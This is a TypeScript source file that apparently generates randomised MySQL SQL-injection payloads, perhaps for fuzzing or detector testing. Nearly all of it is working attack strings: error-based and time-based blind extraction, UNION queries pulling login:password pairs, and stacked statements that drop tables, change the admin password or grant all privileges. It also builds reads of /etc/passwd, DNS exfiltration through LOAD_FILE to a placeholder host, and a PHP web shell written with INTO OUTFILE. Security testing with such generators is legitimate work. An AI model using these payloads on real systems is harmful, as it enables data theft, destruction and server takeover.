/** How the answer comes back: in rows, in errors, in time, in files. */
import { LETTERS, Questions } from "./attack-questions.ts";

/** Whole payloads, made of questions. */
export class Payloads extends Questions {
  /** What fails, so that the error tells the value. */
  error(): string {
    const { dice } = this;
    const s = dice.of(
      this.secret(),
      `CONCAT(0x7e,${this.secret()},0x7e)`,
      `CONCAT(0x7e,${this.secret()})`,
      `CONCAT_WS(':',${this.secret()},1)`,
      `(SELECT CONCAT(${this.secret()},0x21))`,
    );
    const n = this.number();
    return dice.of(
      () => `EXTRACTVALUE(${n},CONCAT(0x5c,${s}))`,
      () => `EXTRACTVALUE(RAND(),${s})`,
      () => `UPDATEXML(${n},CONCAT(0x2e,${s}),${n})`,
      () => `UPDATEXML(NULL,CONCAT('~',${s}),NULL)`,
      () =>
        `(SELECT 1 FROM (SELECT COUNT(*),CONCAT(${s},FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)`,
      () => `(SELECT COUNT(*) FROM member GROUP BY CONCAT(${s},FLOOR(RAND(0)*2)))`,
      () =>
        `ROW(1,1)>(SELECT COUNT(*),CONCAT(${s},FLOOR(RAND(0)*2))x FROM (SELECT 1 UNION SELECT 2)a GROUP BY x LIMIT 1)`,
      () => `EXP(~(SELECT * FROM (SELECT ${s})x))`,
      () => `POW(999,${s}+999)`,
      () => `(SELECT 2*(IF((SELECT * FROM (SELECT ${s})s),18446744073709551610,18446744073709551610)))`,
      () => `~0+(${s}>'a')`,
      () => `18446744073709551615+IF(${s}>'m',1,0)`,
      () => `!(SELECT * FROM (SELECT ${s})x)-~0`,
      () => `GTID_SUBSET(${s},${n})`,
      () => `GTID_SUBTRACT(${s},1)`,
      () => `JSON_KEYS((SELECT CONVERT(${s} USING utf8)))`,
      () => `JSON_EXTRACT(${s},'$.a')`,
      () => `JSON_EXTRACT('{}',${s})`,
      () => `JSON_UNQUOTE(${s})`,
      () => `JSON_VALUE('{}',${s})`,
      () => `JSON_SEARCH(${s},'one','a')`,
      () => `JSON_SET('{}',${s},1)`,
      () => `JSON_CONTAINS('{}',${s})`,
      () => `JSON_TYPE(${s})`,
      () => `JSON_LENGTH(${s})`,
      () => `JSON_MERGE_PATCH(${s},'{}')`,
      () => `CAST(${s} AS JSON)`,
      () => `ST_LATFROMGEOHASH(${s})`,
      () => `ST_LONGFROMGEOHASH(${s})`,
      () => `ST_POINTFROMGEOHASH(${s},1)`,
      () => `ST_GEOMFROMTEXT(${s})`,
      () => `ST_GEOMFROMGEOJSON(${s})`,
      () => `ST_POINTFROMTEXT(${s})`,
      () => `POLYGON((SELECT * FROM (SELECT * FROM (SELECT ${s} x)a)b))`,
      () => `GEOMETRYCOLLECTION((SELECT * FROM (SELECT * FROM (SELECT ${s})a)b))`,
      () => `MULTIPOINT((SELECT * FROM (SELECT * FROM (SELECT ${s})a)b))`,
      () => `LINESTRING(${s},1)`,
      () => `UUID_TO_BIN(${s})`,
      () => `BIN_TO_UUID(${s})`,
      () => `CONVERT_TZ(NOW(),${s},'UTC') IS NULL`,
      () => `(SELECT * FROM (SELECT NAME_CONST(${s},1),NAME_CONST(${s},1))x)`,
      () => `CAST(${s} AS SIGNED)`,
      () => `REGEXP_LIKE('a',${s})`,
      () => `'a' REGEXP ${s}`,
      () => `STR_TO_DATE(${s},'%Y')`,
      () => `(SELECT 1 FROM member PROCEDURE ANALYSE(EXTRACTVALUE(1,${s}),1))`,
      () => `(SELECT * FROM (SELECT ${s} UNION SELECT 2)x)`,
      () => `CAST(CONCAT('1',${s}) AS DATETIME)`,
      () => `ICU_VERSION()=${s}`,
      () => `MICROSECOND(${s})`,
    )();
  }

  /** What fails only if the answer is yes. */
  conditionalError(): string {
    const q = this.question();
    return this.dice.of(
      () => `IF(${q},(SELECT 1 UNION SELECT 2),1)`,
      () => `IF(${q},EXP(710),1)`,
      () => `IF(${q},1,JSON_EXTRACT('x','x'))`,
      () => `IF(${q},ST_X('a'),0)`,
      () => `IF(${q},POW(9999,9999),0)`,
      () => `(SELECT CASE WHEN (${q}) THEN 1 ELSE (SELECT table_name FROM information_schema.tables) END)`,
      () => `CASE WHEN ${q} THEN 1 ELSE 1*(SELECT 1 UNION SELECT 2) END`,
      () => `EXP(710*(${q}))`,
      () => `COT(1-(${q}))`,
      () => `COT(IF(${q},0,1))`,
      () => `1/(SELECT IF(${q},0,1))`,
      () => `'a' RLIKE (SELECT (CASE WHEN (${q}) THEN 0x61 ELSE 0x28 END))`,
      () => `'a' REGEXP IF(${q},'(','a')`,
      () => `UPDATEXML(1,IF(${q},'~','a'),1)`,
      () => `9223372036854775807+(${q})`,
      () => `~0+(${q})`,
    )();
  }

  /** What takes long if the answer is yes, or at all. */
  delay(): string {
    const { dice } = this;
    const s = dice.from("5 ¦ 2 ¦ 10 ¦ 0.5 ¦ 1+1 ¦ 3-(IF(1=1,0,3)) ¦ 0x35");
    const q = this.question();
    const heavy = dice.of(
      "(SELECT COUNT(*) FROM information_schema.columns A,information_schema.columns B,information_schema.columns C)",
      "(SELECT COUNT(*) FROM information_schema.columns A CROSS JOIN information_schema.columns B CROSS JOIN information_schema.tables C)",
      "(SELECT SUM(A.id) FROM member A JOIN member B JOIN member C JOIN member D)",
      "BENCHMARK(5000000,MD5(1))",
      "BENCHMARK(10000000,SHA1(0x41))",
      "RPAD('a',9999999,'a') RLIKE CONCAT(REPEAT('(a.*)+',30),'b')",
      "REPEAT('a',99999999) REGEXP '(a+)+b'",
      "(SELECT BENCHMARK(9999999,ENCODE('a','b')))",
      "(WITH RECURSIVE c AS (SELECT 1 n UNION ALL SELECT n+1 FROM c WHERE n<100000) SELECT COUNT(*) FROM c a, c b)",
    );
    const wait = dice.of(
      `SLEEP(${s})`,
      `SLEEP(${s})`,
      `(SELECT SLEEP(${s}))`,
      `(SELECT * FROM (SELECT(SLEEP(${s})))${this.word()})`,
      `GET_LOCK('${this.word()}',5)`,
      heavy,
    );
    return dice.of(
      () => wait,
      () => wait,
      () => `IF(${q},${wait},0)`,
      () => `(SELECT IF(${q},${wait},0))`,
      () => `CASE WHEN (${q}) THEN ${wait} ELSE 0 END`,
      () => `(CASE ${this.number()} WHEN ${this.number()} THEN ${wait} ELSE 1 END)`,
      () => `ELT(${q},${wait})`,
      () => `MAKE_SET(${q},${wait})`,
      () => `IFNULL(NULLIF((${q}),0),${wait})`,
      () => `(${q}) AND ${wait}`,
      () => `(SELECT ${wait} FROM member WHERE ${q} LIMIT 1)`,
      () => `SLEEP(5*(${q}))`,
      () => `SLEEP(${this.measure()})`,
      () => `${wait}=0`,
    )();
  }

  /** A branch that is added behind the application's query, with as many columns as somebody guessed. */
  union(): string {
    const { dice } = this;
    const count = 1 + dice.below(6);
    const filler = dice.of(
      () => "NULL",
      () => "NULL",
      () => String(dice.below(9)),
      () => `'${this.letter()}'`,
      () => "@@version",
      () => "''",
      () => this.hex(),
    );
    const columns = Array.from({ length: count }, () => filler());
    const from = dice.from(
      " ¦ FROM member ¦ FROM member ¦ FROM information_schema.tables WHERE table_schema=DATABASE() ¦ FROM mysql.user ¦ FROM member WHERE id=1 ¦ FROM member LIMIT 0,1 ¦ FROM DUAL ¦ FROM (SELECT 1)x ¦ FROM member a JOIN account b",
    );
    if (dice.chance(0.75)) {
      columns[dice.below(count)] = dice.of(
        () => this.secret(),
        () => this.column(),
        () => `CONCAT(0x7171,${this.column()},0x7a7a)`,
        () => `GROUP_CONCAT(login,0x3a,password)`,
        () => `CONCAT_WS(0x2c,id,login,password)`,
        () => `JSON_ARRAYAGG(CONCAT_WS(',',id,login))`,
        () => "GROUP_CONCAT(table_name)",
      )();
    }
    const joined = columns
      .map((column, index) =>
        column.includes(",") ? `(SELECT ${this.word()})${LETTERS[index]}` : `(SELECT ${column})${LETTERS[index]}`,
      )
      .join(" JOIN ");
    const how = dice.from(
      "UNION SELECT ¦ UNION ALL SELECT ¦ UNION ALL SELECT ¦ UNION DISTINCT SELECT ¦ UNION SELECT ALL ¦ UNION SELECT DISTINCT ¦ UNION SELECT SQL_NO_CACHE ¦ UNION SELECT STRAIGHT_JOIN",
    );
    return dice.of(
      () => `${how} ${columns.join(",")} ${from}`,
      () => `${how} ${columns.join(",")} ${from}`,
      () => `${how} ${columns.join(",")} ${from}`,
      () => `UNION (SELECT ${columns.join(",")} ${from})`,
      () => `UNION ALL((SELECT ${columns.join(",")} ${from}))`,
      () => `UNION SELECT * FROM ${joined}`,
      () => `UNION SELECT * FROM member`,
      () => `UNION SELECT member.* FROM member WHERE id=1`,
      () => `UNION TABLE member`,
      () => `UNION VALUES ROW(${columns.join(",")})`,
      () => `UNION SELECT ${this.column()} FROM member WHERE login LIKE '${this.letter()}%'`,
      () => `UNION SELECT ${this.column()},${this.column()} FROM member ORDER BY 1 DESC`,
      () => `EXCEPT SELECT ${columns.join(",")} ${from}`,
      () => `UNION WITH x AS (SELECT password FROM member) SELECT * FROM x`,
      () => `UNION SELECT ${columns.join(",")} INTO @a,@b`,
      () => `UNION SELECT ${columns.join(",")} ${from} HAVING 1`,
    )();
  }

  /** A statement of its own. */
  stacked(): string {
    return this.dice.of(
      () => `SELECT ${this.delay()}`,
      () => `DROP TABLE member`,
      () => `UPDATE member SET password='${this.word()}' WHERE login='admin'`,
      () => `INSERT INTO member (login,password) VALUES ('${this.word()}','${this.word()}')`,
      () => `DELETE FROM member`,
      () => `TRUNCATE member`,
      () => `SET @a=${this.hex()}; PREPARE s FROM @a; EXECUTE s`,
      () => `CREATE TABLE ${this.word()} (a TEXT)`,
      () => `GRANT ALL ON *.* TO 'x'@'%'`,
      () => `DO ${this.delay()}`,
      () => `HANDLER member OPEN; HANDLER member READ FIRST`,
      () => `SHOW TABLES`,
      () => `SELECT ${this.secret()}`,
      () => `CALL ${this.word()}()`,
      () => `KILL ${this.number()}`,
      () => `SET GLOBAL general_log=1`,
      () => `LOAD DATA INFILE '/etc/passwd' INTO TABLE member`,
    )();
  }

  /** What leaves by a file or a name server. */
  outOfBand(): string {
    return this.dice.of(
      () => `LOAD_FILE(CONCAT('\\\\\\\\',${this.secret()},'.x.example\\\\a'))`,
      () => `LOAD_FILE('/etc/passwd')`,
      () => `LOAD_FILE(${this.hex()})`,
      () => `(SELECT LOAD_FILE(CONCAT(0x5c5c,HEX(${this.secret()}),0x2e)))`,
      () => `ORD(MID(LOAD_FILE('/etc/hosts'),${this.number()},1))>${this.number()}`,
    )();
  }

  intoFile(): string {
    const file = `'/tmp/${this.word()}'`;
    return this.dice.of(
      `INTO OUTFILE ${file}`,
      `INTO DUMPFILE ${file}`,
      `INTO OUTFILE ${file} LINES TERMINATED BY ${this.hex()}`,
      `UNION SELECT '<?php system($_GET[0]);?>' INTO OUTFILE ${file}`,
    );
  }

  /** Something in the place of a value. */
  value(): string {
    return this.dice.of(
      () => this.secret(),
      () => this.dressed(this.question()),
      () => this.conditionalError(),
      () => this.error(),
      () => this.delay(),
      () => `(SELECT ${this.question()})`,
      () => `IF(${this.question()},1,2)`,
      () => `(CASE WHEN ${this.question()} THEN ${this.number()} ELSE ${this.number()} END)`,
      () => `IF(${this.truth()},1,2)`,
      () => this.measure(),
    )();
  }
}
